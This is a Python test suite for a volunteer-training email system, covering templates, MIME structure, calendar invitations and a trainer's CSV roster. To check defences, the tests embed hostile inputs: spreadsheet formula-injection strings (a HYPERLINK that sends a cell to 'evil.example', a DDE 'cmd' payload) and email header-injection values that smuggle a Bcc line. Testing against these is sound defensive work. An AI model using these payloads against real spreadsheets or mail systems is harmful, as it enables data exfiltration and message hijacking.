"""Emails volunteers can trust: every kind, produced by real scans for a Welsh name on a
session with a non-ASCII title, read back the way a mail client reads it; the calendar
invitations a calendar reads; the trainer's CSV as a spreadsheet reads it; and rows the
website wrote with control characters in them."""
import csv
import datetime
import email
import email.policy
import io
import os
import re
import subprocess

import icalendar

from harness import BUILD, TOP, with_env
from mime_check import check_message

NAME = "Si\u00e2n \u00d3 Briain"
TITLE = "Sgyrsiau Iach \u2013 \u201cHealthy Conversations\u201d"
DATE = "Tuesday 22 September 2026"
TIME = "10:30\u201312:00 BST"
JOIN = "https://meet.example.org/mecc-0922?pwd=a1&lang=cy"
JOIN2 = "https://meet.example.org/mecc-0922-new?pwd=b2"
TRAINER = "trainer@example.org"
ELEARNING = "https://learn.example.org/mecc"
SIGNPOST = "https://livewell.oxfordshire.gov.uk/"
FEEDBACK = "https://hub.example.org/feedback"
CANCEL = "https://hub.example.org/cancel?t={{token}}"
ORG = "Oxfordshire MECC Training"
SETTINGS = {"cancel_url": CANCEL, "feedback_url": FEEDBACK}

KINDS = ("confirmation", "waitlisted", "promoted", "late", "not_placed", "elearning_reminder",
         "joining_link", "roster", "follow_up", "session_cancelled", "session_changed")
ICS_KINDS = ("joining_link", "session_changed", "session_cancelled")
PLACEHOLDER = re.compile(r"\{\{\s*([a-z_]+)\s*\}\}")
UTC = datetime.timezone.utc


# ---- reading templates and messages -----------------------------------------------------------

def template(kind):
    """(subject, text body, html body or None) of a shipped template, as meccd splits it."""
    d = os.path.join(TOP, "etc", "templates")
    with open(os.path.join(d, kind + ".txt"), encoding="utf-8") as f:
        first, _, body = f.read().partition("\n")
    assert first.startswith("Subject:"), first
    if body.startswith("\n"):
        body = body[1:]
    html = None
    if os.path.exists(os.path.join(d, kind + ".html")):
        with open(os.path.join(d, kind + ".html"), encoding="utf-8") as f:
            html = f.read()
    return first[len("Subject:"):].strip(), body, html


def html_escape(s):
    return (s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
            .replace('"', "&quot;").replace("'", "&#39;"))


def pattern(tmpl, values, html=False):
    """A regex matching the template with the known values filled in (escaped for HTML);
    placeholders whose value is computed (lists, notes) match any text."""
    out, pos = [], 0
    for m in PLACEHOLDER.finditer(tmpl):
        out.append(re.escape(tmpl[pos:m.start()]))
        key = m.group(1)
        if key in values:
            v = values[key] or ""
            out.append(re.escape(html_escape(v) if html else v))
        else:
            out.append("(.*?)")
        pos = m.end()
    out.append(re.escape(tmpl[pos:]))
    return re.compile("".join(out), re.S)


def assert_real_links(html, where):
    """Every link in the HTML goes somewhere: no sentence or empty text behind an href."""
    for href in re.findall(r'href="([^"]*)"', html):
        assert re.match(r"(https?://|mailto:)[^\s]+$", href), (where, href)


def shape(part):
    """The MIME tree: content types, attachments as 'type filename'."""
    if part.is_multipart():
        return (part.get_content_type(), tuple(shape(p) for p in part.iter_parts()))
    if part.get_content_disposition() == "attachment":
        return "%s %s" % (part.get_content_type(), part.get_filename())
    return part.get_content_type()


def texts(report):
    parts = {p["content_type"]: p.get("text") for p in report["parts"]}
    assert set(parts) == {"text/plain", "text/html"}, report["parts"]
    return parts["text/plain"], parts["text/html"]


def ics_of(msg):
    """The parsed calendar of a message's .ics attachment and its Content-Type method."""
    cals = [p for p in msg.iter_attachments() if p.get_content_type() == "text/calendar"]
    assert len(cals) == 1, shape(msg)
    return (icalendar.Calendar.from_ical(cals[0].get_payload(decode=True)),
            cals[0].get_param("method"))


def csv_of(msg):
    csvs = [p for p in msg.iter_attachments() if p.get_content_type() == "text/csv"]
    assert len(csvs) == 1, shape(msg)
    data = csvs[0].get_payload(decode=True).decode("utf-8")
    return list(csv.reader(io.StringIO(data, newline="")))


def iso_utc(ts):
    return datetime.datetime.fromtimestamp(ts, UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


def preview(env, kind, rid, now):
    """meccctl preview's bytes, untouched (text mode would turn CRLF into LF)."""
    p = subprocess.run([os.path.join(BUILD, "meccctl"), "-c", env.conf, "--now", now,
                        "preview", kind, str(rid)], capture_output=True, timeout=60)
    assert p.returncode == 0, p.stderr
    return p.stdout


# ---- driving every kind -------------------------------------------------------------------------

class Sent:
    """One captured email, with what was true when it was sent."""

    def __init__(self, env, m, now):
        self.m, self.now = m, now
        self.msg = m["msg"]
        mid = str(self.msg["Message-ID"]).strip()
        rows = env.sql("SELECT kind, occasion, ifnull(registration_id, 0), session_id, recipient"
                       " FROM outbox WHERE message_id = ?", mid)
        assert len(rows) == 1, (mid, rows)
        self.kind, self.occasion, self.rid, self.sid, self.recipient = rows[0]
        title, join, trainer, cap = env.sql("SELECT title, join_url, trainer_email, capacity"
                                            " FROM sessions WHERE id = ?", self.sid)[0]
        self.values = {"session_title": title, "session_date": DATE, "session_time": TIME,
                       "join_url": join, "elearning_url": ELEARNING, "signpost_url": SIGNPOST,
                       "feedback_url": FEEDBACK, "organisation": ORG, "trainer_email": trainer,
                       "capacity": str(cap)}
        if self.rid:
            name, addr, token = env.sql("SELECT name, email, token FROM registrations"
                                        " WHERE id = ?", self.rid)[0]
            # a late registration holds no place, so it has no token to cancel with
            self.values.update(name=name, email=addr, token=token or "")
            if token:
                self.values["cancel_url"] = CANCEL.replace("{{token}}", token)
            self.to_name = name
            # the roster of this session, for its preview
            self.preview_rid = self.rid
        else:
            self.values.update(cancel_url="", token="")
            self.to_name = None
            self.preview_rid = env.sql("SELECT min(id) FROM registrations WHERE session_id = ?",
                                       self.sid)[0][0]
        self.preview = preview(env, self.kind, self.preview_rid, now)


def scan(env, now, sent):
    n = len(env.smtp.messages)
    env.scan(now)
    for m in env.smtp.messages[n:]:
        sent.append(Sent(env, m, now))


def drive_every_kind(env, title, name):
    """Scans from booking to follow-up that make meccd send each of the eleven kinds to a
    registration called `name` (the roster to the trainer) on sessions titled `title`."""
    a = env.add_session(title, "2026-09-22 10:30", "2026-09-22 12:00", 2, "2026-08-01 09:00",
                        "--join-url", JOIN, "--trainer", TRAINER)
    b = env.add_session(title, "2026-09-22 10:30", "2026-09-22 12:00", 5, "2026-08-01 09:00",
                        "--join-url", "https://meet.example.org/other")
    sent = []
    env.register(a, name, "sian1@example.org", "2026-09-01 09:00")
    other = env.register(a, "Other Person", "other@example.org", "2026-09-01 09:01")
    waiting = env.register(a, name, "sian3@example.org", "2026-09-01 09:02")
    env.register(a, name, "sian5@example.org", "2026-09-01 09:03")
    env.register(b, name, "sianb@example.org", "2026-09-01 09:04")
    scan(env, "2026-09-01 09:05", sent)          # confirmation, waitlisted
    env.ctl("cancel", other, now="2026-09-02 09:00")
    scan(env, "2026-09-02 09:01", sent)          # promoted
    env.ctl("session", "cancel", b, now="2026-09-03 09:00")
    scan(env, "2026-09-03 09:01", sent)          # session_cancelled
    env.ctl("elearning-done", waiting, now="2026-09-04 18:00")
    scan(env, "2026-09-12 10:30", sent)          # elearning_reminder
    env.register(a, name, "sian4@example.org", "2026-09-15 10:31")
    scan(env, "2026-09-15 10:31", sent)          # late, not_placed, roster
    scan(env, "2026-09-20 10:30", sent)          # joining_link
    env.ctl("session", "edit", a, "--join-url", JOIN2, now="2026-09-20 12:00")
    scan(env, "2026-09-20 12:01", sent)          # session_changed
    scan(env, "2026-09-23 12:00", sent)          # follow_up
    kinds = {s.kind for s in sent}
    assert kinds == set(KINDS), sorted(set(KINDS) - kinds)
    return sent


def check_sent(s):
    """Everything a volunteer's mail client would show, against the template."""
    where = "%s to %s" % (s.kind, s.recipient)
    rep = check_message(s.m["raw"], to_name=s.to_name)
    assert not rep["errors"], (where, rep["errors"])
    assert s.m["to"] == [s.recipient], (where, s.m["to"])
    assert rep["to"]["addr"] == s.recipient, (where, rep["to"])
    if s.to_name is None:
        assert rep["to"]["name"] == "", (where, rep["to"])
    assert rep["from"] == {"name": "MECC Training", "addr": "mecc@example.org"}, rep["from"]
    for h in ("Date", "From", "To", "Subject", "Message-ID", "MIME-Version", "Auto-Submitted"):
        assert s.msg.get_all(h) and len(s.msg.get_all(h)) == 1, (where, h)
    assert s.msg["Date"].datetime is not None, where
    assert re.fullmatch(r"<[^<>@\s]+@[^<>@\s]+>", str(s.msg["Message-ID"])), s.msg["Message-ID"]

    subj_t, text_t, html_t = template(s.kind)
    subject = rep["subject"]
    text, html = texts(rep)
    assert pattern(subj_t, s.values).fullmatch(subject), (where, subject)
    assert pattern(text_t, s.values).fullmatch(text), (where, subj_t, text)
    assert html_t is not None, where
    assert pattern(html_t, s.values, html=True).fullmatch(html), (where, html)
    for got in (subject, text, html):
        assert "{{" not in got and "}}" not in got, (where, got)
    assert_real_links(html, where)
    title = s.values["session_title"]
    if "{{session_title}}" in subj_t:
        assert title in subject, (where, subject)
    for key, value in (("session_title", title), ("session_date", DATE), ("session_time", TIME)):
        if "{{%s}}" % key in text_t:
            assert value in text, (where, key, text)
        if "{{%s}}" % key in html_t:
            assert html_escape(value) in html, (where, key, html)
    if s.to_name and "{{name}}" in text_t:
        assert "Dear %s," % s.to_name in text, (where, text)

    # text and HTML as alternatives; the right attachment or none
    alternative = ("multipart/alternative", ("text/plain", "text/html"))
    if s.kind in ICS_KINDS:
        assert shape(s.msg) == ("multipart/mixed", (alternative, "text/calendar invite.ics")), \
            (where, shape(s.msg))
    elif s.kind == "roster":
        assert shape(s.msg) == ("multipart/mixed", (alternative, "text/csv attendees.csv")), \
            (where, shape(s.msg))
    else:
        assert shape(s.msg) == alternative, (where, shape(s.msg))
    for line in s.m["raw"].split(b"\r\n"):
        assert len(line) <= 998, where
    return rep, text, html


def check_preview(s, rep):
    """meccctl preview at the moment of sending shows the very same email."""
    where = "preview %s to %s" % (s.kind, s.recipient)
    prev = check_message(s.preview, to_name=s.to_name)
    assert not prev["errors"], (where, prev["errors"])
    assert prev["headers"] == rep["headers"], (where, prev["headers"], rep["headers"])
    assert prev["parts"] == rep["parts"], where
    assert prev["attachments"] == rep["attachments"], (where, prev["attachments"])
    pmsg = email.message_from_bytes(s.preview, policy=email.policy.default)
    assert shape(pmsg) == shape(s.msg), (where, shape(pmsg))
    # the Message-ID, Date and boundaries derive from the outbox row and the moment, so
    # what the admin reads is byte for byte what went to the relay
    assert s.preview == s.m["raw"], where


@with_env(**SETTINGS)
def test_every_kind_reads_back_as_written(env):
    sent = drive_every_kind(env, TITLE, NAME)
    seen = set()
    for s in sent:
        rep, text, html = check_sent(s)
        check_preview(s, rep)
        seen.add(s.kind)
        if s.kind == "roster":
            assert s.recipient == TRAINER
            assert NAME in text and html_escape(NAME) in html, text
        else:
            assert rep["to"]["name"] == s.to_name
    assert seen == set(KINDS)
    # every registration called Siân got what its story says, once each
    got = sorted((s.recipient, s.kind, s.occasion) for s in sent if s.to_name == NAME)
    assert got == sorted([
        ("sian1@example.org", "confirmation", ""),
        ("sian1@example.org", "elearning_reminder", "10d"),
        ("sian1@example.org", "elearning_reminder", "3d"),
        ("sian1@example.org", "joining_link", ""),
        ("sian1@example.org", "session_changed", "1"),
        ("sian1@example.org", "follow_up", ""),
        ("sian3@example.org", "waitlisted", ""),
        ("sian3@example.org", "promoted", ""),
        ("sian3@example.org", "joining_link", ""),
        ("sian3@example.org", "session_changed", "1"),
        ("sian3@example.org", "follow_up", ""),
        ("sian4@example.org", "late", ""),
        ("sian5@example.org", "waitlisted", ""),
        ("sian5@example.org", "not_placed", ""),
        ("sianb@example.org", "confirmation", ""),
        ("sianb@example.org", "session_cancelled", ""),
    ]), got
    # the joining link carries the link of its day; the change email the new one
    for s in sent:
        if s.kind == "joining_link":
            assert JOIN in texts(check_message(s.m["raw"]))[0]
        if s.kind == "session_changed":
            text = texts(check_message(s.m["raw"]))[0]
            assert JOIN2 in text and JOIN not in text, text


@with_env(**SETTINGS)
def test_html_escapes_values_text_keeps_them(env):
    title = "Tea & Talk \u2013 <b>& \u201cSgwrs\u201d</b>"
    name = "Si\u00e2n O'Brien"
    sent = drive_every_kind(env, title, name)
    for s in sent:
        rep, text, html = check_sent(s)
        where = s.kind
        if "{{session_title}}" in template(s.kind)[0]:
            assert title in rep["subject"], (where, rep["subject"])
        if "{{session_title}}" in template(s.kind)[1]:
            assert title in text, (where, text)
        if "{{session_title}}" in template(s.kind)[2]:
            assert "Tea &amp; Talk \u2013 &lt;b&gt;&amp; \u201cSgwrs\u201d&lt;/b&gt;" in html, \
                (where, html)
            assert "<b>&" not in html, (where, html)
        if s.to_name == name:
            assert "Dear Si\u00e2n O'Brien," in text, (where, text)
            assert "Dear Si\u00e2n O&#39;Brien," in html, (where, html)
        # the join link's & is escaped in HTML attributes and text, raw in the text part
        if s.kind == "joining_link":
            assert JOIN in text and html_escape(JOIN) in html and JOIN not in html, where


# ---- calendars ----------------------------------------------------------------------------------

def vevent(cal):
    events = cal.walk("VEVENT")
    assert len(events) == 1, cal.to_ical()
    return events[0]


def local(dt):
    return (dt.hour, dt.minute, dt.utcoffset())


def check_joining_link(env, m, sid, offset):
    """A joining link's invitation: 10:30-12:00 London time, at the given UTC offset."""
    rep = check_message(m["raw"], to_name=NAME)
    assert not rep["errors"], rep["errors"]
    cal, method = ics_of(m["msg"])
    ev = vevent(cal)
    start, end = ev["DTSTART"].dt, ev["DTEND"].dt
    assert local(start) == (10, 30, offset), start
    assert local(end) == (12, 0, offset), end
    assert ev["DTSTART"].params.get("TZID") == "Europe/London", ev["DTSTART"].params
    starts_at, ends_at = env.sql("SELECT starts_at, ends_at FROM sessions WHERE id = ?", sid)[0]
    assert start.timestamp() == starts_at and end.timestamp() == ends_at
    assert [str(tz["TZID"]) for tz in cal.walk("VTIMEZONE")] == ["Europe/London"]
    assert str(cal.get("METHOD")) == "PUBLISH" and method.upper() == "PUBLISH"
    assert str(ev["URL"]) == JOIN and str(ev["LOCATION"]) == JOIN, (ev["URL"], ev["LOCATION"])
    assert str(ev["SUMMARY"]) == TITLE, ev["SUMMARY"]
    assert len(ev.walk("VALARM")) == 1


@with_env(**SETTINGS)
def test_calendar_invitations_across_the_clock_change(env):
    before = env.add_session(TITLE, "2026-10-20 10:30", "2026-10-20 12:00", 5, "2026-08-01 09:00",
                             "--join-url", JOIN)
    after = env.add_session(TITLE, "2026-10-27 10:30", "2026-10-27 12:00", 5, "2026-08-01 09:00",
                            "--join-url", JOIN)
    rb = env.register(before, NAME, "sian@example.org", "2026-09-01 09:00")
    ra = env.register(after, NAME, "sian.a@example.org", "2026-09-01 09:00")
    env.scan("2026-09-01 09:05")
    env.scan("2026-10-18 10:30")        # joining link for the BST session

    def only(to, kind, n=1):
        got = env.mails(to=to, kind=kind)
        assert len(got) == n, (to, kind, len(got))
        return got

    jb = only("sian@example.org", "joining_link")[0]
    check_joining_link(env, jb, before, datetime.timedelta(hours=1))
    uid_b = str(vevent(ics_of(jb["msg"])[0])["UID"])

    # each edit of start, end or link is a new version of the same event
    seqs = [int(vevent(ics_of(jb["msg"])[0]).get("SEQUENCE", 0))]
    edits = [("2026-10-18 12:00", ("--start", "2026-10-20 11:00", "--end", "2026-10-20 12:30"),
              (11, 0), (12, 30), JOIN),
             ("2026-10-19 09:00", ("--join-url", JOIN2), (11, 0), (12, 30), JOIN2),
             ("2026-10-19 10:00", ("--end", "2026-10-20 13:00"), (11, 0), (13, 0), JOIN2)]
    for i, (when, args, hm_start, hm_end, link) in enumerate(edits, 1):
        env.ctl("session", "edit", before, *args, now=when)
        env.scan(when[:-2] + "01")
        changed = only("sian@example.org", "session_changed", i)[-1]
        rep = check_message(changed["raw"], to_name=NAME)
        assert not rep["errors"], rep["errors"]
        cal, method = ics_of(changed["msg"])
        ev = vevent(cal)
        assert str(ev["UID"]) == uid_b
        seqs.append(int(ev["SEQUENCE"]))
        assert local(ev["DTSTART"].dt) == (*hm_start, datetime.timedelta(hours=1)), ev["DTSTART"].dt
        assert local(ev["DTEND"].dt) == (*hm_end, datetime.timedelta(hours=1)), ev["DTEND"].dt
        assert str(ev["URL"]) == link and str(ev["LOCATION"]) == link
        assert len(ev.walk("VALARM")) == 1
        assert str(cal.get("METHOD")) == "PUBLISH" and method.upper() == "PUBLISH"
    assert seqs == sorted(set(seqs)), "SEQUENCE does not rise with each change: %r" % seqs
    # the other session's event is untouched by these edits
    assert env.mails(to="sian.a@example.org", kind="session_changed") == []

    # cancelling: the same event, a higher SEQUENCE, METHOD:CANCEL, no alarm left behind
    env.ctl("session", "cancel", before, now="2026-10-19 12:00")
    env.scan("2026-10-19 12:01")
    gone = only("sian@example.org", "session_cancelled")[0]
    rep = check_message(gone["raw"], to_name=NAME)
    assert not rep["errors"], rep["errors"]
    cal, method = ics_of(gone["msg"])
    ev = vevent(cal)
    assert str(cal["METHOD"]) == "CANCEL" and method.upper() == "CANCEL", (cal.get("METHOD"), method)
    assert str(ev["UID"]) == uid_b
    assert int(ev["SEQUENCE"]) > seqs[-1], (ev["SEQUENCE"], seqs)
    assert str(ev.get("STATUS")) == "CANCELLED"
    assert ev.walk("VALARM") == []
    assert local(ev["DTSTART"].dt) == (11, 0, datetime.timedelta(hours=1))
    p = preview(env, "session_cancelled", rb, "2026-10-19 12:01")
    assert p == gone["raw"], "preview differs from the cancellation sent"

    # after the clocks go back: the other session, 10:30 GMT, its own UID
    env.scan("2026-10-25 10:30")
    ja = only("sian.a@example.org", "joining_link")[0]
    check_joining_link(env, ja, after, datetime.timedelta(0))
    uid_a = str(vevent(ics_of(ja["msg"])[0])["UID"])
    assert uid_a != uid_b, uid_a
    # and meccctl preview shows that same event
    p = check_message(preview(env, "joining_link", ra, "2026-10-25 10:30"), to_name=NAME)
    assert not p["errors"] and p["ics"]["uid"] == uid_a, p


# ---- the trainer's CSV --------------------------------------------------------------------------

@with_env(**SETTINGS)
def test_roster_csv_is_safe_in_a_spreadsheet(env):
    sid = env.add_session(TITLE, "2026-09-22 10:30", "2026-09-22 12:00", 7, "2026-08-01 09:00",
                          "--join-url", JOIN, "--trainer", TRAINER)
    people = [(NAME, "sian@example.org"),
              ("Leaving Early", "leaver@example.org"),
              ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "eq@example.org"),
              ("+44 7700 900123", "plus@example.org"),
              ("-2+3", "minus@example.org"),
              ("@SUM(1+1)*cmd|' /C calc'!A0", "at@example.org"),
              ('O\'Brien, "Jo"', "=1+2@example.org"),
              ("Wendy Waiting", "wendy@example.org")]
    rids = {}
    for i, (name, addr) in enumerate(people):
        rids[addr] = env.register(sid, name, addr, "2026-09-01 09:%02d" % i)
    env.scan("2026-09-01 09:30")
    env.ctl("elearning-done", "sian@example.org", now="2026-09-03 17:45")
    env.ctl("elearning-done", rids["plus@example.org"], now="2026-09-10 08:05")
    env.ctl("cancel", rids["leaver@example.org"], now="2026-09-11 09:00")
    env.scan("2026-09-11 09:01")                   # Wendy takes the freed place
    env.scan("2026-09-15 10:30")                   # cutoff: the roster

    rosters = env.mails(to=TRAINER, kind="roster")
    assert len(rosters) == 1
    rep = check_message(rosters[0]["raw"])
    assert not rep["errors"], rep["errors"]
    rows = csv_of(rosters[0]["msg"])
    assert rows[0] == ["name", "email", "status", "registered_at", "elearning_completed_at"], rows[0]
    booked = env.sql("SELECT name, email, registered_at, elearning_done_at FROM registrations"
                     " WHERE session_id = ? AND status = 'booked'", sid)
    assert len(booked) == 7 and "Leaving Early" not in [b[0] for b in booked]
    assert len(rows) == 1 + len(booked), rows
    formula = tuple("=+-@")

    def shown(v):
        return "'" + v if v.startswith(formula) else v

    by_email = {}
    for row in rows[1:]:
        assert len(row) == 5, row
        for cell in row:
            assert not cell.startswith(formula), "a spreadsheet would run %r" % cell
        by_email[row[1]] = row
    for name, addr, registered_at, done in booked:
        row = by_email.pop(shown(addr))
        assert row[0] == shown(name), (row, name)
        assert row[2] == "booked"
        assert row[3] == iso_utc(registered_at), row
        assert row[4] == (iso_utc(done) if done else ""), row
    assert not by_email, by_email
    done = {r[1]: r[4] for r in rows[1:]}
    assert done["sian@example.org"] == "2026-09-03T16:45:00Z", done
    assert done["plus@example.org"] == "2026-09-10T07:05:00Z", done
    assert sum(1 for v in done.values() if v) == 2, done
    # the body lists the same people
    text = texts(rep)[0]
    assert NAME in text and "Wendy Waiting" in text and "Leaving Early" not in text, text


# ---- rows the website wrote -------------------------------------------------------------------

EVIL = "\r\nBcc: x@evil.example"


def insert_registration(env, sid, name, addr, at="2026-09-01 07:00"):
    """As the website does it; `at` is UTC."""
    env.sql("INSERT INTO registrations (session_id, name, email, registered_at)"
            " VALUES (?, ?, ?, strftime('%s', ?))", sid, name, addr, at)
    return env.sql("SELECT max(id) FROM registrations")[0][0]


def insert_session(env, title):
    env.sql("INSERT INTO sessions (title, starts_at, ends_at, capacity, join_url, trainer_email)"
            " VALUES (?, strftime('%s', '2026-09-22 09:30'), strftime('%s', '2026-09-22 11:00'),"
            " 10, ?, ?)", title, JOIN, TRAINER)
    return env.sql("SELECT max(id) FROM sessions")[0][0]


def assert_one_clean_recipient(m, addr, to_name=None):
    rep = check_message(m["raw"], to_name=to_name)
    assert not rep["errors"], rep["errors"]
    assert m["to"] == [addr], m["to"]
    msg = m["msg"]
    assert msg.get_all("Bcc") is None and msg.get_all("Cc") is None, list(msg.keys())
    assert len(msg.get_all("Subject")) == 1 and len(msg.get_all("To")) == 1
    assert len(msg["To"].addresses) == 1 and msg["To"].addresses[0].addr_spec == addr
    head = m["raw"].partition(b"\r\n\r\n")[0]
    for line in head.split(b"\r\n"):
        assert not line.lower().startswith((b"bcc:", b"cc:")), line
        assert b"\r" not in line and b"\n" not in line and b"\0" not in line, line
    return rep


def test_control_characters_in_names(env):
    sid = env.add_session(TITLE, "2026-09-22 10:30", "2026-09-22 12:00", 10, "2026-08-01 09:00",
                          "--join-url", JOIN, "--trainer", TRAINER)
    bad = {"crlf@example.org": "Eve" + EVIL,
           "cr@example.org": "Eve\rBcc: x@evil.example",
           "lf@example.org": "Eve\nBcc: x@evil.example",
           "tab@example.org": "Eve\tBcc: x@evil.example",
           "del@example.org": "Eve\x7f"}
    ids = {addr: insert_registration(env, sid, name, addr) for addr, name in bad.items()}
    addr_inj = insert_registration(env, sid, "Mallory", "m@example.org" + EVIL)
    nul = insert_registration(env, sid, "Nul\0Bcc: x@evil.example", "nul@example.org")
    long_name = ("Si\u00e2n \u00d3 Briain-" + "ap Gwilym " * 200)[:2000]
    assert len(long_name) == 2000
    long_id = insert_registration(env, sid, long_name, "long@example.org")
    ascii_long = insert_registration(env, sid, "A" * 2000, "longascii@example.org")
    env.scan("2026-09-01 09:05")

    # a volunteer never loses a booking for a cosmetic defect: each control character
    # of the name becomes a space, the name is one line, and no header is injected
    for addr, rid in ids.items():
        status, name = env.sql("SELECT status, name FROM registrations WHERE id = ?", rid)[0]
        assert status == "booked", (addr, status)
        assert not re.search(r"[\x00-\x1f\x7f]", name) and name.startswith("Eve"), (addr, name)
        got = env.mails(to=addr)
        assert len(got) == 1, addr
        rep = assert_one_clean_recipient(got[0], addr, to_name=name)
        assert ("Dear %s," % name) in texts(rep)[0]
    assert env.sql("SELECT status FROM registrations WHERE id = ?", addr_inj)[0][0] == "invalid"
    for m in env.smtp.messages:
        assert all("evil" not in r for r in m["to"]), m["to"]
        assert len(m["to"]) == 1

    # a NUL ends the name as C reads it: either refused or sent with one recipient
    status = env.sql("SELECT status FROM registrations WHERE id = ?", nul)[0][0]
    if status == "invalid":
        assert env.mails(to="nul@example.org") == []
    else:
        got = env.mails(to="nul@example.org")
        assert status == "booked" and len(got) == 1, (status, len(got))
        rep = assert_one_clean_recipient(got[0], "nul@example.org", to_name="Nul")
        assert "evil" not in texts(rep)[0]

    # a 2,000-character name is booked, folded into short lines, and reads back whole
    for rid, addr, name in ((long_id, "long@example.org", long_name),
                            (ascii_long, "longascii@example.org", "A" * 2000)):
        assert env.sql("SELECT status FROM registrations WHERE id = ?", rid)[0][0] == "booked"
        got = env.mails(to=addr)
        assert len(got) == 1
        rep = assert_one_clean_recipient(got[0], addr, to_name=name)
        assert ("Dear %s," % name) in texts(rep)[0]
        assert html_escape(name) in texts(rep)[1]
    # and in the trainer's roster, whole too
    env.scan("2026-09-15 10:30")
    roster = env.mails(to=TRAINER, kind="roster")
    assert len(roster) == 1
    assert_one_clean_recipient(roster[0], TRAINER)
    names = [r[0] for r in csv_of(roster[0]["msg"])[1:]]
    assert long_name in names and "A" * 2000 in names, [n[:20] for n in names]


@with_env(**SETTINGS)
def test_control_characters_in_titles(env):
    env.ctl("init")
    titles = {"crlf": "Tea" + EVIL,
              "cr": "Tea\rBcc: x@evil.example",
              "lf": "Tea\nBcc: x@evil.example",
              "lflf": "Tea\n\nBcc: x@evil.example",
              "nul": "Tea\0Bcc: x@evil.example",
              "ctl": "Tea\x1b[2J\x01\tBcc: x@evil.example\x7f",
              "long": ("Sgyrsiau Iach \u2013 " + "\u201cHealthy Conversations\u201d " * 80)[:2000]}
    sids = {k: insert_session(env, t) for k, t in titles.items()}
    for k, sid in sids.items():
        env.register(sid, NAME, "%s@example.org" % k, "2026-09-01 09:00")
    env.scan("2026-09-01 09:05")
    env.scan("2026-09-15 10:30")     # roster to the trainer
    env.scan("2026-09-20 10:30")     # joining link, with the title in the .ics SUMMARY
    for k, sid in sids.items():
        addr = "%s@example.org" % k
        got = env.mails(to=addr)
        kinds = [env.kind_of(m)[0] for m in got]
        assert kinds[0] == "confirmation" and kinds[-1] == "joining_link", (k, kinds)
        for m in got:
            rep = assert_one_clean_recipient(m, addr, to_name=NAME)
            subject = rep["subject"]
            assert "\r" not in subject and "\n" not in subject, subject
            if "{{session_title}}" in template(env.kind_of(m)[0])[0]:
                # the title is all there, on one logical line
                assert "Bcc: x@evil.example" in subject or k in ("nul", "long"), (k, subject)
                assert subject.count("Tea") == 1 or k == "long", subject
                if k == "long":
                    # bounded: the website's 2,000 characters are cut, visibly, at 200 bytes
                    shown = subject.split(":", 1)[1].split(", Tuesday")[0].strip()
                    assert titles[k].startswith(shown[:-1]) and shown.endswith("\u2026"), subject
                    assert len(shown.encode()) <= 200, len(shown.encode())
            # the title is one line in the bodies too: no bare CR, no terminal escapes
            kind = env.kind_of(m)[0]
            for body in texts(rep):
                assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f]", body), (k, kind, body)
            if k not in ("nul", "long") and "{{session_title}}" in template(kind)[1]:
                assert re.search(r"Session: Tea[^\n]*Bcc: x@evil\.example *\n", texts(rep)[0]), \
                    (k, kind, texts(rep)[0])
            if "ics" in rep:
                summary = rep["ics"]["summary"]
                assert "Tea" in summary or k == "long", summary
                if k == "long":
                    assert titles[k].startswith(summary[:-1]) and summary.endswith("\u2026"), summary
        roster = [m for m in env.mails(to=TRAINER, kind="roster")
                  if env.sql("SELECT session_id FROM outbox WHERE message_id = ?",
                             str(m["msg"]["Message-ID"]).strip())[0][0] == sid]
        assert len(roster) == 1, k
        assert_one_clean_recipient(roster[0], TRAINER)
    assert all(len(m["to"]) == 1 for m in env.smtp.messages)


# ---- no link to give ----------------------------------------------------------------------------

def body_parts(msg):
    return [p.get_content_type() for p in msg.walk()
            if not p.is_multipart() and p.get_content_disposition() != "attachment"]


def test_joining_link_before_the_trainer_has_a_link(env):
    sid = env.add_session(TITLE, "2026-09-22 10:30", "2026-09-22 12:00", 5, "2026-08-01 09:00",
                          "--trainer", TRAINER)
    env.register(sid, NAME, "sian@example.org", "2026-09-01 09:00")
    env.scan("2026-09-01 09:05")
    env.scan("2026-09-15 10:30")
    env.scan("2026-09-20 10:30")
    roster = env.mails(to=TRAINER, kind="roster")[0]
    rep = check_message(roster["raw"])
    assert not rep["errors"], rep["errors"]
    text = [p["text"] for p in rep["parts"] if p["content_type"] == "text/plain"][0]
    assert re.search(r"Link: +not set yet", text), text
    for p in rep["parts"]:
        if p["content_type"] == "text/html":
            assert_real_links(p["text"], "roster")

    # the volunteer is told the link is still to come, never shown a blank or a dead link
    join = env.mails(to="sian@example.org", kind="joining_link")
    assert len(join) == 1
    rep = check_message(join[0]["raw"], to_name=NAME)
    assert not rep["errors"], rep["errors"]
    text = [p["text"] for p in rep["parts"] if p["content_type"] == "text/plain"][0]
    assert "To join, open this link on the day:\nThe link to join is not ready yet" in text, text
    for p in rep["parts"]:
        if p["content_type"] == "text/html":
            assert_real_links(p["text"], "joining_link")
    cal = vevent(ics_of(join[0]["msg"])[0])
    assert cal.get("URL") is None and cal.get("LOCATION") is None, cal.to_ical()

    # the link arrives with the change email, as promised, in text and HTML
    env.ctl("session", "edit", sid, "--join-url", JOIN, now="2026-09-20 15:00")
    env.scan("2026-09-20 15:01")
    changed = env.mails(to="sian@example.org", kind="session_changed")
    assert len(changed) == 1
    rep = check_message(changed[0]["raw"], to_name=NAME)
    assert not rep["errors"], rep["errors"]
    text, html = texts(rep)
    assert JOIN in text and html_escape(JOIN) in html
    assert_real_links(html, "session_changed")
    assert str(vevent(ics_of(changed[0]["msg"])[0])["URL"]) == JOIN


@with_env(require_elearning=True)
def test_link_held_back_until_the_elearning_is_done(env):
    sid = env.add_session(TITLE, "2026-09-22 10:30", "2026-09-22 12:00", 5, "2026-08-01 09:00",
                          "--join-url", JOIN)
    rid = env.register(sid, NAME, "sian@example.org", "2026-09-01 09:00")
    env.scan("2026-09-01 09:05")
    env.ctl("session", "edit", sid, "--start", "2026-09-22 11:00", now="2026-09-02 09:00")
    env.scan("2026-09-02 09:01")
    changed = env.mails(to="sian@example.org", kind="session_changed")
    assert len(changed) == 1
    rep = check_message(changed[0]["raw"], to_name=NAME)
    assert not rep["errors"], rep["errors"]
    assert b"meet.example.org" not in changed[0]["raw"], "the link went before the e-learning"
    text = [p["text"] for p in rep["parts"] if p["content_type"] == "text/plain"][0]
    assert "as soon as you have completed the e-learning" in text, text
    for p in rep["parts"]:
        if p["content_type"] == "text/html":
            assert_real_links(p["text"], "session_changed")
    # emails that do not mention the link keep their HTML
